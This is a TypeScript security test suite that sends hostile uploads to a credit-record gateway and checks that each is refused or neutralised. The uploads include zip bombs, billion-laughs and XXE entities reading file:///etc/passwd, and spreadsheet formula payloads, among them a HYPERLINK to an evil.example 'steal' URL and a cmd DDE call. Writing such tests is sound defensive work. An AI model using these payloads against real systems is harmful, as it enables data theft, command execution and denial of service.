/**
 * Hostile and borderline files against POST /v1/uploads and its follow-up GETs, written from the
 * README contract alone ("Uploads (templates and files)", "HTTP API", "Onboarding a partner agency"):
 * every refusal must carry the documented status and code as signed problem+json in the language
 * asked for, and must leave NOTHING behind — no record, no upload row, no upload_rows — and the
 * gateway must stay ready. Files are built here: a hand-made zip writer (hostile-zip.ts), exceljs for
 * real XLSX to tamper with, node:zlib for deflate and iconv-lite for GB18030.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateRawSync, gzipSync } from 'node:zlib';
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { startTestGateway, type TestGateway } from '../support/env.js';
import {
  type Answer,
  AUDIENCE,
  AUTHORITY_USCC,
  checkAnswerSignature,
  expectSignedProblem,
  isProblem,
  makePartner,
  makeUscc,
  partnerEntry,
  parseResponses,
  rawSocketExchange,
  request,
  show,
  signed,
  signedHeaders,
  type Partner,
} from './helpers.js';
import { crc32, deflateGenerated, readZip, writeZip, type ZipEntry } from './hostile-zip.js';

// ---------------------------------------------------------------------------------------------
// partners (README "Onboarding a partner agency")

const WRITE = ['records:write', 'records:read'];
let serial = 7100;
const pid = (region = '320583') => makeUscc('11', region, ++serial);

/** 昆山 market regulator: admin_penalty in 3205, one source system (the default `sourceSystem`). */
const A = makePartner({ id: AUTHORITY_USCC, name: '昆山市市场监督管理局', scopes: WRITE, sourceSystems: ['scjg.kunshan'], categories: ['admin_penalty'], regions: ['3205'] });
/** another agency with the same grant, its own source system */
const B = makePartner({ id: pid(), name: '太仓市市场监督管理局', scopes: WRITE, sourceSystems: ['scjg.taicang'], categories: ['admin_penalty'], regions: ['3205'] });
/** an agency with two source systems: an upload must name one */
const M = makePartner({ id: pid(), name: '苏州市市场监督管理局', scopes: WRITE, sourceSystems: ['scjg.suzhou.a', 'scjg.suzhou.b'], categories: ['admin_penalty'], regions: ['*'] });
/** every category and region */
const Z = makePartner({ id: pid(), name: '江苏省信用中心', scopes: WRITE, sourceSystems: ['jscredit.all'], categories: ['*'], regions: ['*'] });
/** may read, may not write */
const RO = makePartner({ id: pid(), name: '只读单位', scopes: ['records:read'], sourceSystems: ['readonly.sys'], categories: ['*'], regions: ['*'] });

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const CSV = 'text/csv';
const MiB = 1024 * 1024;

let gw: TestGateway;
/** a second gateway with the upload worker off (uploads stay queued) on a database of its own */
let idle: TestGateway;
/** the template's column keys (row 2) and Chinese headings (row 1), read from GET /v1/templates */
let KEYS: string[] = [];
let HEADINGS: string[] = [];
/** the template CSV's row 3 (the rules), which an upload skips */
let RULES: string[] = [];

function authOverrides(partners: Partner[]) {
  return {
    auth: { enabled: true, audience: AUDIENCE, signingKeys: { dir: mkdtempSync(join(tmpdir(), 'gw-upl-keys-')) }, partners: partners.map(partnerEntry) },
  };
}

beforeAll(async () => {
  gw = await startTestGateway({ ...authOverrides([A, B, M, Z, RO]), uploads: { pollIntervalMs: 200 } });
  idle = await startTestGateway({ ...authOverrides([A]), uploads: { workerEnabled: false } });
  const t = await signed(gw.url, A, 'GET', '/v1/templates/admin_penalty?format=csv');
  expect(t.status, show(t)).toBe(200);
  const rows = parseCsv(t.raw.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
  HEADINGS = rows[0]!;
  KEYS = rows[1]!;
  RULES = rows[2]!;
  expect(KEYS).toContain('source.key');
  expect(KEYS).toContain('data.CF_SY');
}, 300_000);

afterAll(async () => {
  for (const g of [gw, idle]) {
    if (!g) continue;
    await g.stop().catch(() => undefined);
    await g.db.drop().catch(() => undefined);
  }
});

// ---------------------------------------------------------------------------------------------
// rows

let subj = 50_000;
let keySerial = 0;
/** a unique source key (also the 文书号) */
const newKey = (tag: string) => `昆市监罚〔2024〕${tag}-${++keySerial}号`;

/** A valid 行政处罚 row by template column key (columns not named stay empty). */
function penaltyRow(key: string, over: Record<string, string> = {}, uscc = makeUscc('91', '320583', ++subj)): Record<string, string> {
  const name = `上传测试${subj}有限公司`;
  return {
    'subject.name': name,
    'subject.uscc': uscc,
    'source.key': key,
    decidedAt: '2024-03-15',
    severity: 'general',
    'data.CF_XDR_MC': name,
    'data.CF_XDR_LB': '法人及非法人组织',
    'data.CF_XDR_SHXYM': uscc,
    'data.CF_FRDB': '张某',
    'data.CF_WSH': key,
    'data.CF_WFXW': '经营不符合食品安全标准的食品',
    'data.CF_SY': '当事人于2024年1月销售超过保质期的预包装食品。',
    'data.CF_YJ': '《中华人民共和国食品安全法》第一百二十四条第一款',
    'data.CF_CFLB': '罚款',
    'data.CF_NR': '罚款人民币5万元。',
    'data.CF_NR_FK': '5',
    'data.CF_JDRQ': '2024-03-15',
    'data.CF_CFJG': '昆山市市场监督管理局',
    'data.CF_CFJGDM': AUTHORITY_USCC,
    'data.CF_SJLY': '昆山市市场监督管理局',
    'data.CF_SJLYDM': AUTHORITY_USCC,
    ...over,
  };
}

const asCells = (row: Record<string, string>) => KEYS.map((k) => row[k] ?? '');

function csvCell(v: string): string {
  return /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}

function csvText(rows: string[][], eol = '\n'): string {
  return rows.map((r) => r.map(csvCell).join(',')).join(eol) + eol;
}

/** CSV with the keys alone in row 1 (README: "or the keys alone in row 1"). */
function keysCsv(rows: Record<string, string>[], eol = '\n'): Buffer {
  return Buffer.from(csvText([KEYS, ...rows.map(asCells)], eol), 'utf8');
}

/** XLSX (exceljs) with the keys alone in row 1 and the rows below; every cell a string unless given otherwise. */
async function keysXlsx(rows: (Record<string, string> | ExcelJS.CellValue[])[], opts: { before?: (wb: ExcelJS.Workbook) => void; after?: (ws: ExcelJS.Worksheet) => void } = {}): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  opts.before?.(wb);
  const ws = wb.addWorksheet('行政处罚');
  ws.addRow(KEYS);
  for (const r of rows) ws.addRow(Array.isArray(r) ? r : asCells(r));
  opts.after?.(ws);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

/** Unzips (through our reader), lets `edit` change the parts, zips again with our writer. */
function rezip(xlsx: Buffer, edit: (parts: ZipEntry[]) => ZipEntry[] = (p) => p): Buffer {
  const parts: ZipEntry[] = readZip(xlsx)
    .filter((e) => !e.name.endsWith('/'))
    .map((e) => ({ name: e.name, data: e.data }));
  return writeZip(edit(parts));
}

function partText(parts: ZipEntry[], name: string): string {
  const p = parts.find((e) => e.name === name);
  if (!p?.data) throw new Error(`no part ${name}`);
  return p.data.toString('utf8');
}

function setPart(parts: ZipEntry[], name: string, data: Buffer | string, extra: Partial<ZipEntry> = {}): ZipEntry[] {
  const buf = typeof data === 'string' ? Buffer.from(data, 'utf8') : data;
  const out = parts.filter((e) => e.name !== name);
  out.push({ name, data: buf, ...extra });
  return out;
}

/** inserts text right after the XML declaration */
const afterDecl = (xml: string, insert: string) => xml.replace(/^(<\?xml[^?]*\?>\s*)/, `$1${insert}`);

const BILLION_LAUGHS =
  '<!DOCTYPE lolz [<!ENTITY lol "lol">' +
  Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('') +
  ']>';

// ---------------------------------------------------------------------------------------------
// HTTP

async function upload(p: Partner, body: Buffer, contentType: string | null, opts: { query?: string; lang?: string; target?: string; headers?: Record<string, string> } = {}): Promise<Answer> {
  const target = opts.target ?? `/v1/uploads?${opts.query ?? 'category=admin_penalty'}`;
  return signed(gw.url, p, 'POST', target, {
    rawBody: body,
    ...(contentType === null ? { headers: { 'content-type': '', 'accept-language': opts.lang ?? 'zh-CN', ...opts.headers } } : { contentType, headers: { 'accept-language': opts.lang ?? 'zh-CN', ...opts.headers } }),
  });
}

const CJK = /[\u3400-\u9fff]/;

/** README "HTTP API": a title in Chinese or English (Accept-Language). */
function expectLanguage(ans: Answer, lang: string): void {
  const title = String(ans.json?.title ?? '');
  if (lang.startsWith('zh')) expect(title, `Chinese title for Accept-Language ${lang}: ${show(ans)}`).toMatch(CJK);
  else {
    expect(title, `English title for Accept-Language ${lang}: ${show(ans)}`).toMatch(/[A-Za-z]{3,}/);
    expect(title, `no Chinese in the English title: ${show(ans)}`).not.toMatch(CJK);
  }
}

interface Counts {
  records: number;
  uploads: number;
  uploadRows: number;
}

async function counts(g: TestGateway = gw): Promise<Counts> {
  const q = async (sql: string) => Number((await g.ctx.pool.query(sql)).rows[0].count);
  return { records: await q('SELECT count(*) FROM records'), uploads: await q('SELECT count(*) FROM uploads'), uploadRows: await q('SELECT count(*) FROM upload_rows') };
}

async function expectReady(g: TestGateway = gw): Promise<void> {
  const r = await request(g.url, { method: 'GET', path: '/readyz' });
  expect(r.status, `readyz: ${show(r)}`).toBe(200);
}

interface Refusal {
  status: number;
  code: string;
  partner?: Partner;
  query?: string;
}

/**
 * Sends the file twice (Chinese, then English), expects the documented refusal both times as signed
 * problem+json, and that nothing at all was kept.
 */
async function expectRefused(body: Buffer, contentType: string | null, r: Refusal): Promise<void> {
  const before = await counts();
  for (const lang of ['zh-CN,zh;q=0.9', 'en-US,en;q=0.9']) {
    const ans = await upload(r.partner ?? A, body, contentType, { lang, ...(r.query ? { query: r.query } : {}) });
    if (ans.status === 202 && typeof ans.json?.id === 'string') {
      // taken instead of refused: let it finish so its effects are reported here (and stay out of later tests)
      const u = await poll(gw, r.partner ?? A, ans.json.id).catch((e: unknown) => ({ state: `unknown (${String(e)})` }));
      const after = await counts();
      expect.fail(
        `expected ${r.status} ${r.code}; got 202 — upload ${ans.json.id} ended ${u.state} (stored ${u.stored}, unchanged ${u.unchanged}, rejected ${u.rejected}, error ${JSON.stringify(u.error)}); ` +
          `records ${before.records}→${after.records}, uploads ${before.uploads}→${after.uploads}, upload_rows ${before.uploadRows}→${after.uploadRows}`,
      );
    }
    await expectSignedProblem(gw.url, ans, r.status, r.code);
    expectLanguage(ans, lang);
    expect(ans.headers.location, 'a refusal names no upload').toBeUndefined();
  }
  expect(await counts(), 'nothing stored: no record, no upload, no upload row').toEqual(before);
}

interface Final {
  accepted: Answer;
  upload: any;
}

async function poll(g: TestGateway, p: Partner, id: string, timeoutMs = 40_000): Promise<any> {
  // on timeout vi.waitFor rejects with the last error thrown here; an answer other than 200 ends the wait at once, and fails below
  const s = await vi.waitFor(async () => {
    const s = await signed(g.url, p, 'GET', `/v1/uploads/${id}`);
    if (s.status === 200 && s.json.state !== 'done' && s.json.state !== 'failed') throw new Error(`upload ${id} still ${s.json.state} after ${timeoutMs} ms: ${s.text}`);
    return s;
  }, { timeout: timeoutMs, interval: 150 });
  expect(s.status, show(s)).toBe(200);
  return s.json;
}

/** Uploads, expects 202 with Location, waits until done or failed. */
async function uploadAndWait(p: Partner, body: Buffer, contentType: string, opts: { query?: string; headers?: Record<string, string> } = {}): Promise<Final> {
  const accepted = await upload(p, body, contentType, opts);
  expect(accepted.status, show(accepted)).toBe(202);
  expect(accepted.headers.location).toBe(`/v1/uploads/${accepted.json.id}`);
  return { accepted, upload: await poll(gw, p, accepted.json.id) };
}

async function feedback(p: Partner, id: string): Promise<Answer> {
  const f = await signed(gw.url, p, 'GET', `/v1/uploads/${id}/feedback`);
  expect(f.status, `feedback: ${f.status} ${String(f.headers['content-type'])} ${f.status === 200 ? '' : f.text.slice(0, 300)}`).toBe(200);
  return f;
}

/**
 * Measures how long the event loop stood still: the gateway runs in this process, so a gap between
 * 50 ms ticks is time in which it answered nobody (no /readyz, no other partner).
 */
function loopGapMonitor(): { stop(): number } {
  let last = Date.now();
  let worst = 0;
  const t = setInterval(() => {
    const now = Date.now();
    worst = Math.max(worst, now - last - 50);
    last = now;
  }, 50);
  return {
    stop: () => {
      clearInterval(t);
      return Math.max(worst, Date.now() - last - 50);
    },
  };
}

/** Waits up to `timeoutMs` for /readyz to answer 200; returns either way (the caller reports what it finds). */
async function waitReady(timeoutMs: number): Promise<void> {
  await vi.waitFor(async () => {
    const r = await request(gw.url, { method: 'GET', path: '/readyz', timeoutMs: 5_000 });
    if (r.status !== 200) throw new Error(`readyz: ${r.status}`);
  }, { timeout: timeoutMs, interval: 200 }).catch(() => undefined);
}

afterEach(async () => {
  if (gw) await expectReady();
});

// ---------------------------------------------------------------------------------------------
// builders that need the keys

async function validXlsx(tag: string): Promise<Buffer> {
  return keysXlsx([penaltyRow(newKey(tag))]);
}

function colName(i: number): string {
  let s = '';
  for (let n = i + 1; n > 0; n = Math.floor((n - 1) / 26)) s = String.fromCharCode(65 + ((n - 1) % 26)) + s;
  return s;
}

/**
 * A worksheet part generated as a stream: the keys in row 1 (inline strings) and `rows` data rows
 * below, each with one inline-string cell. Never held whole in memory.
 */
function* sheetXml(rows: number, opts: { dimension?: string; withR?: boolean }): Generator<Buffer> {
  const withR = opts.withR ?? true;
  const header = KEYS.map((k, i) => `<c${withR ? ` r="${colName(i)}1"` : ''} t="inlineStr"><is><t>${k}</t></is></c>`).join('');
  yield Buffer.from(
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
      (opts.dimension ? `<dimension ref="${opts.dimension}"/>` : '') +
      `<sheetData><row${withR ? ' r="1"' : ''}>${header}</row>`,
  );
  let parts: string[] = [];
  for (let r = 2; r <= rows + 1; r++) {
    parts.push(withR ? `<row r="${r}"><c r="A${r}" t="inlineStr"><is><t>${r}</t></is></c></row>` : `<row><c t="inlineStr"><is><t>${r}</t></is></c></row>`);
    if (parts.length === 8192) {
      yield Buffer.from(parts.join(''));
      parts = [];
    }
  }
  yield Buffer.from(parts.join('') + '</sheetData></worksheet>');
}

/** A workbook whose first sheet is replaced by a generated one; also returns the part's ratio. */
async function bigSheetXlsx(rows: number, opts: { dimension?: string; withR?: boolean }): Promise<{ file: Buffer; ratio: number; size: number }> {
  const base = await keysXlsx([]);
  const gen = await deflateGenerated(sheetXml(rows, opts));
  const file = rezip(base, (parts) => setPart(parts, 'xl/worksheets/sheet1.xml', Buffer.alloc(0), { compressed: gen.compressed, crc: gen.crc, size: gen.size }));
  return { file, ratio: gen.size / gen.compressed.length, size: gen.size };
}

// =============================================================================================
// positive controls first: the builders themselves must make files the gateway takes

describe('controls: files built by this test are taken', () => {
  it('a small XLSX (exceljs, keys in row 1) is stored', async () => {
    const before = await counts();
    const { upload: u } = await uploadAndWait(A, await validXlsx('ctl-x'), XLSX);
    expect(u.state, JSON.stringify(u)).toBe('done');
    expect(u.stored, JSON.stringify(u)).toBe(1);
    expect(u.format).toBe('xlsx');
    expect((await counts()).records).toBe(before.records + 1);
  });

  it('the same XLSX re-zipped by our own zip writer is stored', async () => {
    const { upload: u } = await uploadAndWait(A, rezip(await validXlsx('ctl-z')), XLSX);
    expect(u.state, JSON.stringify(u)).toBe('done');
    expect(u.stored, JSON.stringify(u)).toBe(1);
  });

  it('a small CSV (keys in row 1, UTF-8 without BOM) is stored', async () => {
    const { upload: u } = await uploadAndWait(A, keysCsv([penaltyRow(newKey('ctl-c'))]), CSV);
    expect(u.state, JSON.stringify(u)).toBe('done');
    expect(u.stored, JSON.stringify(u)).toBe(1);
    expect(u.format).toBe('csv');
  });
});

// =============================================================================================

describe('zip bombs: GW_UPLOAD_ZIP_BOMB 422, nothing kept', () => {
  it('a part that inflates far past its declared size (declares 2 KiB, inflates to 40 MiB)', async () => {
    const file = rezip(await validXlsx('bomb-past'), (parts) => {
      const xml = partText(parts, 'xl/worksheets/sheet1.xml');
      const real = Buffer.from(xml);
      const padded = Buffer.concat([real.subarray(0, real.length - '</worksheet>'.length), Buffer.alloc(40 * MiB, 0x20), Buffer.from('</worksheet>')]);
      return setPart(parts, 'xl/worksheets/sheet1.xml', real, { compressed: deflateRawSync(padded, { level: 9 }), size: real.length, crc: crc32(real) });
    });
    expect(file.length).toBeLessThan(MiB);
    await expectRefused(file, XLSX, { status: 422, code: 'GW_UPLOAD_ZIP_BOMB' });
  });

  it('declared sizes huge: one part declaring 600 MiB uncompressed', async () => {
    const file = rezip(await validXlsx('bomb-decl'), (parts) => parts.map((p) => (p.name === 'xl/worksheets/sheet1.xml' ? { ...p, size: 600 * MiB } : p)));
    await expectRefused(file, XLSX, { status: 422, code: 'GW_UPLOAD_ZIP_BOMB' });
  });

  it('declared sizes huge in sum: five parts declaring 110 MiB each (550 MiB > 512 MiB)', async () => {
    const file = rezip(await validXlsx('bomb-sum'), (parts) => {
      const extra: ZipEntry[] = Array.from({ length: 5 }, (_, i) => {
        const data = Buffer.alloc(1000, 0x41 + i);
        return { name: `xl/media/part${i}.bin`, data, size: 110 * MiB };
      });
      return [...parts, ...extra];
    });
    await expectRefused(file, XLSX, { status: 422, code: 'GW_UPLOAD_ZIP_BOMB' });
  });

  it('a very high compression ratio: an honest 8 MiB part of spaces in the sheet (ratio ≈ 1000)', async () => {
    const file = rezip(await validXlsx('bomb-ratio'), (parts) => {
      const xml = partText(parts, 'xl/worksheets/sheet1.xml');
      const padded = Buffer.from(xml.replace('<sheetData>', `<sheetData>${' '.repeat(8 * MiB)}`));
      return setPart(parts, 'xl/worksheets/sheet1.xml', padded);
    });
    expect(file.length).toBeLessThan(200 * 1024);
    await expectRefused(file, XLSX, { status: 422, code: 'GW_UPLOAD_ZIP_BOMB' });
  });

  it('a very high compression ratio in a non-XML part (2 MiB of zeros, xl/media/pad.bin)', async () => {
    const file = rezip(await validXlsx('bomb-ratio-bin'), (parts) => [...parts, { name: 'xl/media/pad.bin', data: Buffer.alloc(2 * MiB) }]);
    await expectRefused(file, XLSX, { status: 422, code: 'GW_UPLOAD_ZIP_BOMB' });
  });

  it('borderline, taken: a part under 1 MiB with a ratio over 200 is not a bomb (README: "parts over 1 MiB")', async () => {
    const file = rezip(await validXlsx('ratio-small'), (parts) => [...parts, { name: 'xl/media/pad.bin', data: Buffer.alloc(1_000_000) }]);
    const { upload: u } = await uploadAndWait(A, file, XLSX);
    expect(u.state, JSON.stringify(u)).toBe('done');
    expect(u.stored, JSON.stringify(u)).toBe(1);
  });

  it('more than maxZipEntries (2,000) parts: 2,100 tiny parts', async () => {
    const file = rezip(await validXlsx('bomb-entries'), (parts) => [...parts, ...Array.from({ length: 2100 }, (_, i) => ({ name: `xl/media/e${i}.bin`, data: Buffer.from([i & 0xff]), method: 0 }))]);
    await expectRefused(file, XLSX, { status: 422, code: 'GW_UPLOAD_ZIP_BOMB' });
  });

  it('more parts in the central directory count than the EOCD says would hide: 2,100 parts of size 0', async () => {
    const file = rezip(await validXlsx('bomb-entries0'), (parts) => [...parts, ...Array.from({ length: 2100 }, (_, i) => ({ name: `customXml/item${i}.xml`, data: Buffer.alloc(0), method: 0 }))]);
    await expectRefused(file, XLSX, { status: 422, code: 'GW_UPLOAD_ZIP_BOMB' });
  });

  it('nested zip: a zip whose only part is an XLSX is not an XLSX (no [Content_Types].xml) → 415 GW_UPLOAD_TYPE_MISMATCH', async () => {
    const inner = await validXlsx('nested-wrap');
    const file = writeZip([{ name: '2024年5月行政处罚.xlsx', data: inner }]);
    await expectRefused(file, XLSX, { status: 415, code: 'GW_UPLOAD_TYPE_MISMATCH' });
  });

  it('nested zip: an XLSX carrying an embedded zip bomb (inner part declares and inflates to 64 MiB) is never opened — taken or refused whole, never half', async () => {
    const bomb = writeZip([{ name: 'bomb.bin', data: Buffer.alloc(64 * MiB) }]);
    const file = rezip(await validXlsx('nested-embed'), (parts) => [...parts, { name: 'xl/embeddings/oleObject1.bin', data: bomb, method: 0 }]);
    const before = await counts();
    const ans = await upload(A, file, XLSX);
    if (ans.status === 202) {
      const u = await poll(gw, A, ans.json.id);
      expect(u.state, JSON.stringify(u)).toBe('done');
      expect(u.stored).toBe(1);
    } else {
      await expectSignedProblem(gw.url, ans, 422, 'GW_UPLOAD_ZIP_BOMB');
      expect(await counts()).toEqual(before);
    }
  });
});

// =============================================================================================

describe('XML entity tricks: GW_UPLOAD_XML_ENTITY 422, nothing kept', () => {
  const cases: [string, (parts: ZipEntry[]) => ZipEntry[]][] = [
    [
      'billion laughs in xl/sharedStrings.xml (referenced from a cell)',
      (parts) => {
        const xml = partText(parts, 'xl/sharedStrings.xml');
        return setPart(parts, 'xl/sharedStrings.xml', afterDecl(xml, BILLION_LAUGHS).replace(/<t>当事人[^<]*<\/t>/, '<t>&lol9;</t>'));
      },
    ],
    ['billion laughs in xl/worksheets/sheet1.xml', (parts) => setPart(parts, 'xl/worksheets/sheet1.xml', afterDecl(partText(parts, 'xl/worksheets/sheet1.xml'), BILLION_LAUGHS))],
    ['billion laughs in [Content_Types].xml', (parts) => setPart(parts, '[Content_Types].xml', afterDecl(partText(parts, '[Content_Types].xml'), BILLION_LAUGHS))],
    ['DOCTYPE with ENTITY in xl/workbook.xml', (parts) => setPart(parts, 'xl/workbook.xml', afterDecl(partText(parts, 'xl/workbook.xml'), '<!DOCTYPE workbook [<!ENTITY x "y">]>'))],
    ['DOCTYPE with ENTITY in docProps/core.xml (a part the reader never needs)', (parts) => setPart(parts, 'docProps/core.xml', afterDecl(partText(parts, 'docProps/core.xml'), '<!DOCTYPE c [<!ENTITY x "y">]>'))],
    ['DOCTYPE in xl/_rels/workbook.xml.rels', (parts) => setPart(parts, 'xl/_rels/workbook.xml.rels', afterDecl(partText(parts, 'xl/_rels/workbook.xml.rels'), '<!DOCTYPE Relationships>'))],
    [
      'external entity file:///etc/passwd in xl/sharedStrings.xml',
      (parts) => {
        const xml = partText(parts, 'xl/sharedStrings.xml');
        return setPart(parts, 'xl/sharedStrings.xml', afterDecl(xml, '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace(/<t>当事人[^<]*<\/t>/, '<t>&xxe;</t>'));
      },
    ],
    [
      'external parameter entity (http) in xl/worksheets/sheet1.xml',
      (parts) => setPart(parts, 'xl/worksheets/sheet1.xml', afterDecl(partText(parts, 'xl/worksheets/sheet1.xml'), '<!DOCTYPE w [<!ENTITY % ext SYSTEM "http://127.0.0.1:9/evil.dtd"> %ext;]>')),
    ],
    [
      'UTF-16LE (with BOM) sheet1.xml with a DOCTYPE',
      (parts) => {
        const xml = afterDecl(partText(parts, 'xl/worksheets/sheet1.xml').replace('encoding="UTF-8"', 'encoding="UTF-16"'), BILLION_LAUGHS);
        return setPart(parts, 'xl/worksheets/sheet1.xml', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]));
      },
    ],
    [
      'UTF-16BE (with BOM) sharedStrings.xml with a DOCTYPE',
      (parts) => {
        const xml = afterDecl(partText(parts, 'xl/sharedStrings.xml').replace('encoding="UTF-8"', 'encoding="UTF-16"'), '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>');
        const le = Buffer.from(xml, 'utf16le');
        return setPart(parts, 'xl/sharedStrings.xml', Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(le).swap16()]));
      },
    ],
    [
      'UTF-16LE without BOM (detected from "<\\0?\\0") [Content_Types].xml with a DOCTYPE',
      (parts) => {
        const xml = afterDecl(partText(parts, '[Content_Types].xml').replace('encoding="UTF-8"', 'encoding="UTF-16"'), '<!DOCTYPE Types [<!ENTITY x "y">]>');
        return setPart(parts, '[Content_Types].xml', Buffer.from(xml, 'utf16le'));
      },
    ],
    [
      'a DOCTYPE stored (method 0, not deflated) in sheet1.xml',
      (parts) => setPart(parts, 'xl/worksheets/sheet1.xml', afterDecl(partText(parts, 'xl/worksheets/sheet1.xml'), '<!DOCTYPE w [<!ENTITY x "y">]>'), { method: 0 }),
    ],
    ...[16_384, 65_536].map(
      (boundary): [string, (parts: ZipEntry[]) => ZipEntry[]] => [
        `"<!DOCTYPE" split across byte ${boundary} (a chunk boundary of a streaming scan)`,
        (parts) => {
          const xml = partText(parts, 'xl/worksheets/sheet1.xml');
          const decl = /^<\?xml[^?]*\?>\s*/.exec(xml)![0];
          const pad = boundary - 4 - Buffer.byteLength(decl) - '<!---->'.length;
          return setPart(parts, 'xl/worksheets/sheet1.xml', afterDecl(xml, `<!--${'x'.repeat(pad)}-->` + '<!DOCTYPE w [<!ENTITY x "y">]>'));
        },
      ],
    ),
  ];
  for (const [name, edit] of cases) {
    it(name, async () => {
      const file = rezip(await validXlsx('xml-entity'), edit);
      await expectRefused(file, XLSX, { status: 422, code: 'GW_UPLOAD_XML_ENTITY' });
    });
  }
});

// =============================================================================================

describe('formulas: read as values, never evaluated; the feedback neutralises them', () => {
  const PAYLOADS: Record<string, string> = {
    'data.CF_SY': '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")',
    'data.CF_WFXW': "=cmd|' /C calc'!A0",
    'data.CF_NR': '+1+1',
    'data.CF_FRDB': '-2+3',
    'data.CF_YJ': '@SUM(1)',
    'data.BZ': '\t=1+1',
  };

  /** every text cell of the feedback: none may start with = + - @ tab CR */
  const DANGEROUS = /^[=+\-@\t\r]/;

  function checkRowsNeutralised(rows: string[][], key: string): void {
    const header = rows[0]!;
    const bad: string[] = [];
    rows.forEach((r, i) => r.forEach((c, j) => DANGEROUS.test(c) && bad.push(`row ${i + 1} col ${j + 1}: ${JSON.stringify(c)}`)));
    expect(bad, 'feedback cells starting with = + - @ tab or CR').toEqual([]);
    const row = rows.find((r) => r.includes(key));
    expect(row, `the uploaded row (source key ${key}) is in the feedback`).toBeDefined();
    for (const [k, v] of Object.entries(PAYLOADS)) {
      const j = header.indexOf(k);
      expect(j, `column ${k} kept in the feedback`).toBeGreaterThanOrEqual(0);
      expect(row![j], `feedback cell ${k}`).toBe(`'${v}`);
    }
    expect(header, 'the two added columns').toEqual(expect.arrayContaining(['处理结果', '错误说明']));
  }

  async function storedData(key: string): Promise<Record<string, unknown> | undefined> {
    const r = await gw.ctx.pool.query('SELECT * FROM current_records');
    const row = r.rows.find((x: any) => JSON.stringify(x).includes(JSON.stringify(key).slice(1, -1)));
    if (!row) return undefined;
    const s = JSON.stringify(row);
    return { raw: s };
  }

  it('CSV: payload cells stored as text and written back with a leading \' in the CSV feedback', async () => {
    const key = newKey('formula-csv');
    const row = penaltyRow(key, PAYLOADS);
    row['data.CF_CFJG'] = "'=1+2"; // README: "'" followed by = is read without the "'"
    const { upload: u } = await uploadAndWait(A, keysCsv([row]), CSV);
    expect(u.state, JSON.stringify(u)).toBe('done');
    expect(u.stored + u.rejected, JSON.stringify(u)).toBe(1);
    if (u.stored === 1) {
      const stored = await storedData(key);
      expect(stored?.raw, 'the formula text is stored as given, not evaluated').toContain(JSON.stringify('+1+1').slice(1, -1));
      expect(stored?.raw).toContain(JSON.stringify('=1+2').slice(1, -1));
      expect(stored?.raw).not.toContain("'=1+2");
    }
    const f = await feedback(A, u.id);
    const rows = parseCsv(f.raw.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    checkRowsNeutralised(rows, key);
    const j = rows[0]!.indexOf('data.CF_CFJG');
    expect(rows.find((r) => r.includes(key))![j]).toBe("'=1+2");
  });

  it('XLSX: text payloads and real formula cells; the XLSX feedback has no formula and every dangerous text neutralised', async () => {
    const key = newKey('formula-xlsx');
    const row = asCells(penaltyRow(key, PAYLOADS)) as ExcelJS.CellValue[];
    // a real formula cell with a cached text value in 处罚机关: read as the cached value, never evaluated
    row[KEYS.indexOf('data.CF_CFJG')] = { formula: 'HYPERLINK("http://evil.example","昆山市市场监督管理局")', result: '昆山市市场监督管理局' } as ExcelJS.CellFormulaValue;
    const file = await keysXlsx([row]);
    expect(readZip(file).find((e) => e.name === 'xl/worksheets/sheet1.xml')!.data.toString()).toContain('<f>');
    const { upload: u } = await uploadAndWait(A, file, XLSX);
    expect(u.state, JSON.stringify(u)).toBe('done');
    expect(u.stored + u.rejected, JSON.stringify(u)).toBe(1);
    if (u.stored === 1) {
      const stored = await storedData(key);
      expect(stored?.raw, 'the cached value of a formula is read').toContain('昆山市市场监督管理局');
      expect(stored?.raw, 'formula text never reaches the record').not.toContain('HYPERLINK("http://evil.example"');
      expect(stored?.raw).toContain(JSON.stringify('+1+1').slice(1, -1));
    }
    const f = await feedback(A, u.id);
    expect(f.raw.subarray(0, 2).toString('latin1'), 'feedback of an XLSX is an XLSX').toBe('PK');
    // no formula anywhere in any worksheet part
    for (const part of readZip(f.raw).filter((e) => /^xl\/worksheets\/.*\.xml$/.test(e.name))) {
      expect(part.data.toString('utf8'), `${part.name} holds no <f> formula`).not.toMatch(/<f[\s>/]/);
    }
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(f.raw as any);
    const rows: string[][] = [];
    const formulas: string[] = [];
    const ws = wb.worksheets[0]!;
    ws.eachRow({ includeEmpty: true }, (r, rn) => {
      const cells: string[] = [];
      r.eachCell({ includeEmpty: true }, (c, cn) => {
        if (c.type === ExcelJS.ValueType.Formula || c.formula) formulas.push(`${colName(cn - 1)}${rn}`);
        if (c.type === ExcelJS.ValueType.Hyperlink) formulas.push(`${colName(cn - 1)}${rn} (hyperlink)`);
        cells[cn - 1] = c.value === null || c.value === undefined ? '' : typeof c.value === 'object' ? c.text : String(c.value);
      });
      rows[rn - 1] = Array.from(cells, (x) => x ?? '');
    });
    for (const other of wb.worksheets.slice(1)) {
      other.eachRow((r) => r.eachCell((c) => {
        if (c.formula) formulas.push(`${other.name}!${c.address}`);
        if (typeof c.value === 'string' && DANGEROUS.test(c.value)) formulas.push(`${other.name}!${c.address} ${JSON.stringify(c.value)}`);
      }));
    }
    expect(formulas, 'cells with formulas or hyperlinks in the feedback').toEqual([]);
    checkRowsNeutralised(rows.map((r) => r ?? []), key);
    const j = rows[0]!.indexOf('data.CF_CFJG');
